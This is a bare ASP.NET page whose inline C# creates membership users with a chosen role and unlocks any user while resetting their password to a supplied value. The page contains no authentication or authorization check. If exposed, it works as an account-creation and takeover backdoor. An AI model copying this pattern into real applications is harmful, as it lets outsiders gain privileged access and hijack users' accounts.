<%@ Page Language="C#" %><script runat="server">
void Create(object s, EventArgs e) { MembershipCreateStatus st; Membership.CreateUser(user.Text, pass.Text, mail.Text, null, null, true, out st); if (st == MembershipCreateStatus.Success) Roles.AddUserToRole(user.Text, role.SelectedValue); msg.Text = st.ToString(); }
void Unlock(object s, EventArgs e) { var u = Membership.GetUser(user.Text); if (u != null) { u.UnlockUser(); u.ChangePassword(u.ResetPassword(), pass.Text); Membership.UpdateUser(u); } }
</script><form runat="server"><asp:TextBox id="user" runat="server"/><asp:TextBox id="pass" runat="server"/><asp:TextBox id="mail" runat="server"/><asp:DropDownList id="role" runat="server"/><asp:Button OnClick="Create" runat="server"/><asp:Label id="msg" runat="server"/></form>
